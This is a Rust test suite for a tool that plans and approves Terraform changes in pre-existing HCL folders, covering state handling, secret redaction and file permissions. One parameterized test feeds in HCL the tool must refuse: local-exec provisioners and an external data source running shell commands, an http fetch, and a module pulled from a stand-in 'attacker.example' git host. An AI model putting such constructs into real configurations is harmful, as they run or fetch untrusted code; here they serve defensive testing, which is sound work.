//! Existing roots: folders of HCL that were there before us, planned as they lie, and what is refused in them.
//! Names one in the environment or plans a folder by its path; looks at cards, files and what was started.
//! Must never find anything of ours in the folder afterwards but what Terraform itself keeps there.

use crate::kit::scene::{Scene, change_of};
use crate::kit::terraform::{Terraform, files_with};
use rstest::rstest;
use std::path::{Path, PathBuf};

/// A folder of HCL as somebody wrote it, with a local module and a file of values.
const NETWORK: [(&str, &str); 3] = [
    (
        "main.tf",
        "variable \"zone\" { type = string }\nmodule \"inner\" {\n  source = \"./inner\"\n  zone   = var.zone\n}\n\
         output \"zone\" { value = module.inner.zone }\n",
    ),
    (
        "inner/main.tf",
        "variable \"zone\" { type = string }\nresource \"terraform_data\" \"zone\" { input = var.zone }\n\
         output \"zone\" { value = terraform_data.zone.output }\n",
    ),
    ("dev.auto.tfvars", "zone = \"north\"\n"),
];

fn write(folder: &Path, files: &[(&str, &str)]) {
    for (name, text) in files {
        let path = folder.join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
}

/// A scene in which `dev` knows the folder `network`.
fn named(terraform: &Terraform, files: &[(&str, &str)]) -> (Scene, PathBuf) {
    let roots = "[environments.dev.terraform.roots]\nnetwork = \"{root}/network\"\n";
    let scene = Scene::with_config(&terraform.config_with(roots));
    let folder = scene.path("network");
    write(&folder, files);
    (scene, folder)
}

fn plan(scene: &Scene, folder: &Path) -> crate::kit::scene::Finished {
    scene.run(&["--json", "plan", folder.to_str().unwrap()])
}

#[test]
fn a_named_folder_is_planned_approved_and_applied_with_its_own_values_and_state() {
    for terraform in Terraform::each() {
        let (scene, folder) = named(&terraform, &NETWORK);
        let change = change_of(&plan(&scene, &folder).ended(4).events());
        let card = scene.card(&change);
        let files = card["files"].to_string() + &card["resources"].to_string() + &card.to_string();
        for (name, _) in NETWORK {
            assert!(files.contains(name), "{name} is listed: {card}");
        }
        assert!(card.to_string().contains("module.inner.terraform_data.zone"), "{card}");
        assert!(!folder.join("terraform.tfstate").exists());
        scene.run(&["approve", &change]).ended(0);
        let state = std::fs::read_to_string(folder.join("terraform.tfstate")).expect("the root keeps its own state");
        assert!(state.contains("north"));
        let again = plan(&scene, &folder);
        assert!(again.words().contains("no_changes"), "{}", again.words());
        scene.ledger_verifies();
    }
}

#[test]
fn a_folder_is_planned_by_its_name_in_both_languages() {
    for terraform in Terraform::each() {
        for sentence in ["plan the network folder", "计划 network 目录"] {
            let (scene, _) = named(&terraform, &NETWORK);
            let change = scene.propose(sentence);
            assert!(scene.card(&change).to_string().contains("terraform_data.zone"), "{sentence}");
        }
    }
}

#[test]
fn a_folder_that_no_environment_names_gets_its_card_and_cannot_be_approved() {
    for terraform in Terraform::each() {
        let scene = terraform.scene();
        let folder = scene.path("work/elsewhere");
        write(&folder, &NETWORK);
        let finished = plan(&scene, &folder);
        assert!(finished.words().contains("terraform_data.zone"), "{}", finished.words());
        let change = finished.events().iter().find_map(|event| event["change"].as_str().map(str::to_owned));
        if let Some(change) = change {
            assert_ne!(scene.run(&["approve", &change]).code, Some(0));
        }
        assert!(!folder.join("terraform.tfstate").exists());
    }
}

#[test]
fn a_file_that_moved_after_the_plan_supersedes_it() {
    for terraform in Terraform::each() {
        let (scene, folder) = named(&terraform, &NETWORK);
        let change = change_of(&plan(&scene, &folder).ended(4).events());
        std::fs::write(folder.join("dev.auto.tfvars"), "zone = \"south\"\n").unwrap();
        scene.run(&["approve", &change]);
        assert_eq!(scene.state(&change), "superseded");
        assert!(!folder.join("terraform.tfstate").exists(), "nothing was applied");
    }
}

/// What the parsed tree must not hold, with the line it stands in.
#[rstest]
#[case::provisioner(
    "resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"id > ran\"\n  }\n}\n",
    2
)]
#[case::connection("resource \"terraform_data\" \"x\" {\n  connection {\n    host = \"x\"\n  }\n}\n", 2)]
#[case::external("data \"external\" \"x\" {\n  program = [\"sh\", \"-c\", \"id > ran\"]\n}\n", 1)]
#[case::http("\ndata \"http\" \"x\" {\n  url = \"http://127.0.0.1:1/\"\n}\n", 2)]
#[case::foreign_state("data \"terraform_remote_state\" \"x\" {\n  backend = \"http\"\n}\n", 1)]
#[case::module("module \"m\" {\n  source = \"git::https://attacker.example/m.git\"\n}\n", 1)]
fn what_could_run_or_reach_out_is_refused_by_file_and_line(#[case] text: &str, #[case] line: usize) {
    for terraform in Terraform::each() {
        let (scene, folder) = named(&terraform, &[("main.tf", text)]);
        let finished = plan(&scene, &folder);
        assert_ne!(finished.code, Some(4), "{}", finished.words());
        let words = finished.words();
        assert!(words.contains("CM-4028"), "{words}");
        assert!(words.contains(&format!("main.tf, line {line}")), "line {line} is named: {words}");
        let left: Vec<_> = std::fs::read_dir(&folder).unwrap().map(|entry| entry.unwrap().file_name()).collect();
        assert_eq!(left, ["main.tf"], "nothing was started");
    }
}

#[test]
fn a_root_on_the_command_line_takes_no_options_for_terraform() {
    for terraform in Terraform::each() {
        let (scene, folder) = named(&terraform, &NETWORK);
        for extra in ["-target=terraform_data.a", "-destroy", "-chdir=/"] {
            let finished = scene.run(&["plan", folder.to_str().unwrap(), "--", extra]);
            assert_eq!(finished.code, Some(2), "{extra}: {}", finished.words());
        }
        let finished = scene.run(&["--json", "ask", "plan the network folder -- -destroy"]);
        assert!(!finished.words().contains("\"delete\""), "{}", finished.words());
    }
}

#[test]
fn a_sensitive_value_is_nowhere_after_the_whole_way_and_its_change_is_seen() {
    for terraform in Terraform::each() {
        let text = "variable \"password\" {\n  sensitive = true\n  type = string\n}\n\
            resource \"terraform_data\" \"login\" { input = { user = \"ada\", password = var.password } }\n";
        let lines = "[environments.dev.terraform.credentials]\nTF_VAR_password = \"env:LOGIN\"\n\
            [environments.dev.terraform.roots]\nlogin = \"{root}/login\"\n";
        let mut scene = Scene::with_config(&terraform.config_with(lines));
        let folder = scene.path("login");
        write(&folder, &[("main.tf", text)]);
        let mut said = String::new();
        for (value, action) in [("CANARY-4f9a1c77d2", "create"), ("CANARY-8b02e6d3aa", "update")] {
            scene.set("LOGIN", value);
            let planned = plan(&scene, &folder).ended(4);
            let change = change_of(&planned.events());
            let card = scene.card(&change).to_string();
            assert!(card.contains(&format!("\"action\":\"{action}\"")), "the change is seen: {card}");
            said += &(planned.words() + &card + &scene.run(&["show", &change]).words());
            said += &scene.run(&["approve", &change]).ended(0).words();
            said += &scene.run(&["show", &change]).words();
        }
        said += &scene.run(&["audit", "show"]).words();
        assert!(!said.contains("CANARY-"), "it was said");
        // Terraform itself writes it into states; nobody else may read those.
        let kept = files_with(&scene.path("home"), "CANARY-");
        let readable = |file: &&String| !file.contains("/terraform/states/") || mode(Path::new(file.as_str())) != 0o600;
        assert_eq!(kept.iter().filter(readable).collect::<Vec<_>>(), Vec::<&String>::new(), "it was kept");
    }
}

fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

#[test]
fn a_plan_that_waits_is_readable_by_nobody_else() {
    for terraform in Terraform::each() {
        let (scene, folder) = named(&terraform, &NETWORK);
        plan(&scene, &folder).ended(4);
        let scratch = scene.data().join("terraform/scratch");
        let waiting: Vec<_> = std::fs::read_dir(scratch).unwrap().map(|entry| entry.unwrap().path()).collect();
        assert_eq!(waiting.len(), 1, "{waiting:?}");
        assert_eq!(mode(&waiting[0]), 0o700);
        let open =
            std::process::Command::new("find").arg(&waiting[0]).args(["-name", "*.bin", "-perm", "/077"]).output();
        assert_eq!(String::from_utf8_lossy(&open.unwrap().stdout), "");
    }
}
